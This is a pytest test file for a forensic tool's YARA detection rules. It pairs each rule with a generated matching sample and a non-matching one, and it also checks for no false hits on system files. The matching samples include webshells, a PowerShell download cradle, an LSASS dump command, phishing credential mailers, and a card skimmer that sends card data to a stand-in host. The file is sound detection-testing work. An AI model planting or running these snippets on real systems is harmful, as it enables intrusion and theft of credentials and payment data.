"""The shipped YARA rule packs: metadata, a harmless generated positive and negative sample per
rule, and zero hits on a clean corpus (this machine's Python library, documentation, programs)."""

from __future__ import annotations

import base64
import os
import struct
import sysconfig
import time
from pathlib import Path

import pytest
import yara

from forensic_triage.scan.rules import EXTERNALS, build_ruleset, shipped_rules_dir

SEVERITIES = {"low", "medium", "high", "critical"}
REQUIRED = ("description", "author", "date", "reference", "severity", "category")


def _pe(extra: bytes = b"", sections: tuple[bytes, ...] = (b".text",)) -> bytes:
    """An inert PE image: headers and zero-filled sections, no code."""
    e_lfanew = 0x80
    head = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", e_lfanew) + bytes(e_lfanew - 0x40))
    coff = struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, 0xE0, 0x102)
    optional = b"\x0b\x01" + bytes(0xDE)
    table = b"".join(name.ljust(8, b"\x00") + bytes(32) for name in sections)
    body = bytes(head) + b"PE\x00\x00" + coff + optional + table
    return body + bytes(1024 - len(body) % 512) + extra + bytes(256)


def _ole(extra: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + extra + bytes(512)


def _u16(text: str) -> bytes:
    return text.encode("utf-16-le")


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
B64_BLOB = base64.b64encode(os.urandom(400)).decode()
PS_ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')".encode("utf-16-le"))
SEED_WORDS = "abandon ability able about above absent absorb abstract absurd abuse access accident"

# rule -> (positive sample, negative sample): generated text and inert structures only.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "FT_EICAR_Test_File": (EICAR + b"\r\n", b"EICAR test file description: " + EICAR[28:]),
    "FT_Webshell_PHP_Request_Exec": (b"<?php @eval($_POST['x']); ?>", b"<?php eval($code); echo $_POST['x']; ?>"),
    "FT_Webshell_PHP_Obfuscated_Loader": (f"<?php eval(gzinflate(base64_decode('{B64_BLOB}'))); ?>".encode(),
                                          f"<?php $img = base64_decode('{B64_BLOB}'); ?>".encode()),
    "FT_Webshell_PHP_Known_Families": (b"<?php $default_action = 'FilesMan'; ?>", b"<?php $action = 'FileManager'; ?>"),
    "FT_Webshell_ASP_Eval_Request": (b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>',
                                     b'<%@ Page Language="C#"%><% Response.Write(Request.Item["k"]); %>'),
    "FT_Webshell_ASPX_Command_Runner": (
        b'<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); %>',
        b'<%@ Page Language="C#" %><% var p = new ProcessStartInfo("notepad.exe"); %>'),
    "FT_Webshell_JSP_Runtime_Exec": (b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
                                     b'<% String c = request.getParameter("cmd"); out.println(c); %>'),
    "FT_PowerShell_Download_Cradle": (
        b"powershell -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'))\"",
        b"iex ((New-Object System.Net.WebClient).DownloadString('https://community.example.org/install.ps1'))"),
    "FT_PowerShell_Encoded_Command": (b"cmd /c powershell.exe -NoP -enc " + PS_ENC,
                                      b"powershell.exe -File backup.ps1 -Encoding utf8"),
    "FT_PowerShell_Base64_UTF16_Payload": (b"payload=" + PS_ENC, b"payload=" + base64.b64encode(b"IEX download")),
    "FT_Ransomware_Note": (
        b"!!! ALL YOUR FILES HAVE BEEN ENCRYPTED !!!\r\nYour files are encrypted. To decrypt your files you need "
        b"the decryption key. Pay 0.5 bitcoin; contact us through Tor Browser.\r\n",
        b"Backups: your files are encrypted at rest with AES-256 and the decryption key is kept in the HSM.\n"),
    "FT_CredTheft_Mimikatz_Strings": (_u16("mimikatz # privilege::debug\nsekurlsa::logonpasswords"),
                                      b"The word mimikatz appears once in this training note."),
    "FT_CredTheft_LSASS_Dump_Command": (
        b"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
        b"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, DllRegisterServer"),
    "FT_CredTheft_LaZagne": (b"laZagne.exe all\nimport lazagne.softwares.browsers.chromium",
                             b"laZagne is mentioned in this report"),
    "FT_RemoteAccess_AnyDesk": (_pe(_u16("AnyDesk Software GmbH")), b"AnyDesk Software GmbH (text, not a program)"),
    "FT_RemoteAccess_AnyDesk_Config": (b"ad.anynet.id=123456789\nad.anynet.pwd_hash=abc\n", b"ad.roster.entries=3\n"),
    "FT_RemoteAccess_TeamViewer": (_pe(_u16("TeamViewer Germany GmbH")), _pe(_u16("Viewer GmbH"))),
    "FT_RemoteAccess_NetSupport": (b"[Client]\r\nGSK=FF;A@DAIEA\r\n[HTTP]\r\nGatewayAddress=203.0.113.9:443\r\n",
                                   b"[Client]\r\n[HTTP]\r\nPort=443\r\n"),
    "FT_RemoteAccess_ScreenConnect": (_pe(b"ScreenConnect.ClientService.exe"), b"ScreenConnect.ClientService.exe"),
    "FT_RemoteAccess_Other_Tools": (_pe(_u16("rustdesk.com")), _pe(_u16("example.com"))),
    "FT_Wallet_Bitcoin_Core_BDB": (bytes(12) + struct.pack("<I", 0x00053162) + bytes(100) + b"\x04ckey" + bytes(20)
                                   + b"\x0adefaultkey" + bytes(40), bytes(116) + b"defaultkey minversion"),
    "FT_Wallet_Bitcoin_Core_SQLite": (b"SQLite format 3\x00" + bytes(200) + b"walletdescriptor" + bytes(9)
                                      + b"activeexternalspk", b"SQLite format 3\x00" + bytes(200) + b"walletdescriptor"),
    "FT_Wallet_Electrum": (b'{"addr_history": {}, "keystore": {"type": "bip32"}, "seed_version": 53}',
                           b'{"seed": "x", "version": 53}'),
    "FT_Wallet_Ethereum_Keystore": (
        b'{"address":"00","crypto":{"cipher":"aes-128-ctr","ciphertext":"ab","cipherparams":{"iv":"00"},'
        b'"kdf":"scrypt","kdfparams":{"n":8192},"mac":"cd"},"version":3}',
        b'{"crypto":{"cipher":"aes-128-ctr","ciphertext":"ab"},"version":3}'),
    "FT_Wallet_MetaMask_Vault": (b'{"KeyringController":{"vault":"{\\"data\\":\\"' + B64_BLOB[:64].encode()
                                 + b'\\",\\"iv\\":\\"AAAA\\",\\"salt\\":\\"BBBB\\"}"}}',
                                 b'{"KeyringController":{"vault":null}}'),
    "FT_Crypto_Seed_Phrase": (f"My wallet seed phrase:\n{SEED_WORDS}\n".encode(),
                              f"My shopping list:\n{SEED_WORDS}\n".encode()),
    "FT_PhishKit_Credential_Mailer": (
        b"<?php $ip = getenv('REMOTE_ADDR'); $message = $_POST['email'] . ' ' . $_POST['password'] . ' ' . $ip;\n"
        b"$send = 'drop@example.com'; mail($send, 'Office365 ReZulT', $message); header('Location: https://www.office.com'); ?>",
        b"<?php $user = $_POST['email']; $ok = login($user, $_POST['password']); header('Location: /home'); ?>"),
    "FT_PhishKit_Antibot_Blocker": (
        b"<?php $hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']); $blocked = array('phishtank', 'netcraft',"
        b" 'bitdefender'); foreach($blocked as $w){ if(stripos($hostname,$w)!==false){ header('HTTP/1.0 404 Not Found');"
        b" exit; } } ?>",
        b"<?php $hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']); echo $hostname; ?>"),
    "FT_PhishKit_Telegram_Exfil_JS": (
        b"<input type='password' id='pwd'><script>fetch('https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text='"
        b"+document.getElementById('pwd').value)</script>",
        b"<script>fetch('https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=status')</script>"),
    "FT_Skimmer_JS_Card_Exfil": (
        b"document.addEventListener('submit', function(){ var d = {n: jQuery('#cc_number').val(), c: "
        b"jQuery('#cc_cid').val(), e: jQuery('#cc_exp_month').val()}; var i = new Image(); "
        b"i.src = 'https://cdn-analytics.example.net/p.gif?d=' + btoa(JSON.stringify(d)); });",
        b"document.addEventListener('submit', function(){ validate(jQuery('#cc_number').val(), "
        b"jQuery('#cc_cid').val()); });"),
    "FT_Office_OLE_AutoRun_Macro": (_ole(_u16("_VBA_PROJECT") + _u16("VBA") + b"Attribute VB_Name\x00Document_Open"),
                                    _ole(_u16("_VBA_PROJECT") + _u16("VBA") + b"Attribute VB_Name\x00Sub Totals")),
    "FT_Office_OOXML_VBA_Project": (b"PK\x03\x04" + bytes(26) + b"[Content_Types].xml" + bytes(50)
                                    + b"PK\x03\x04" + bytes(26) + b"word/vbaProject.bin",
                                    b"PK\x03\x04" + bytes(26) + b"[Content_Types].xml" + bytes(50) + b"word/document.xml"),
    "FT_Packer_UPX_PE": (_pe(sections=(b"UPX0", b"UPX1", b".rsrc")), _pe(sections=(b".text", b".rdata", b".rsrc"))),
    "FT_Packer_UPX_ELF": (b"\x7fELF" + bytes(200) + b"UPX!" + bytes(50)
                          + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $",
                          b"\x7fELF" + bytes(200) + b"UPX!" + bytes(50)),
    "FT_Packer_Other_PE": (_pe(sections=(b".vmp0", b".vmp1")), _pe(sections=(b".text", b".data"))),
    "FT_Fraud_Advance_Fee_Letter": (
        b"Dear Friend, I am Barrister James, attorney to my late client who left an inheritance fund of 10.5 million "
        b"United States Dollars. As next of kin you will receive it after the clearance certificate and a small "
        b"processing fee sent by Western Union. This is strictly confidential.",
        b"Dear customer, the beneficiary of your transfer has been added. Your statement is attached."),
    "FT_Fraud_Lottery_Notification": (
        b"WINNING NOTIFICATION: your email address won 1,000,000 in the international lottery. Ticket number 55-12, "
        b"batch number 7/331. Contact your claims agent Mr. Smith; a processing fee applies.",
        b"The lottery results were published; the winning number was 12. Contact your agent for details."),
}


@pytest.fixture(scope="module")
def packs() -> yara.Rules:
    rs = build_ruleset([("builtin", shipped_rules_dir())])
    assert not rs.broken, rs.problems()
    assert rs.compiled is not None
    return rs


def _public_rules(rs) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    return {r.identifier: r.meta for f in rs.files for r in f.rules if not r.private}


def test_every_rule_has_complete_metadata(packs) -> None:  # type: ignore[no-untyped-def]
    rules = _public_rules(packs)
    assert len(rules) >= 30
    for name, meta in rules.items():
        missing = [k for k in REQUIRED if not meta.get(k)]
        assert not missing, (name, missing)
        assert meta["severity"] in SEVERITIES, name
        assert name.startswith("FT_"), name
    remote = [m for n, m in rules.items() if n.startswith("FT_RemoteAccess")]
    assert remote and all(m["severity"] == "low" and m["category"] == "notable" for m in remote)


def test_every_rule_has_a_sample(packs) -> None:  # type: ignore[no-untyped-def]
    assert set(_public_rules(packs)) == set(SAMPLES)


def _matches(rules: yara.Rules, data: bytes) -> set[str]:
    return {m.rule for m in rules.match(data=data, externals=dict(EXTERNALS))}


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_positive_and_negative_sample(packs, rule: str) -> None:  # type: ignore[no-untyped-def]
    positive, negative = SAMPLES[rule]
    assert rule in _matches(packs.compiled, positive)
    assert rule not in _matches(packs.compiled, negative)


def _clean_corpus(max_files: int, max_bytes: int) -> list[Path]:
    roots = [Path(sysconfig.get_paths()["stdlib"]), Path("/usr/share/doc"), Path("/usr/bin"), Path("/usr/sbin")]
    chosen: list[Path] = []
    per_root = max_files // len(roots)
    for root in roots:
        if not root.is_dir():
            continue
        taken = 0
        total = 0
        for dirpath, _dirs, files in os.walk(root):
            for name in sorted(files):
                path = Path(dirpath) / name
                if taken >= per_root or path.is_symlink() or not path.is_file():
                    continue
                size = path.stat().st_size
                if total + size > max_bytes // len(roots):
                    continue
                chosen.append(path)
                taken += 1
                total += size
    return chosen


def test_zero_hits_on_a_clean_corpus(packs) -> None:  # type: ignore[no-untyped-def]
    """The packs over this machine's Python standard library, documentation and programs."""
    files = _clean_corpus(max_files=6000, max_bytes=400 * 1024 * 1024)
    assert len(files) > 1000
    started = time.monotonic()
    hits: list[tuple[str, str]] = []
    for path in files:
        data = path.read_bytes()
        ext = path.suffix.lower()
        externals = dict(EXTERNALS, filename=path.name, filepath=str(path.parent), extension=ext)
        hits.extend((m.rule, str(path)) for m in packs.compiled.match(data=data, externals=externals))
    assert hits == []
    assert time.monotonic() - started < 60
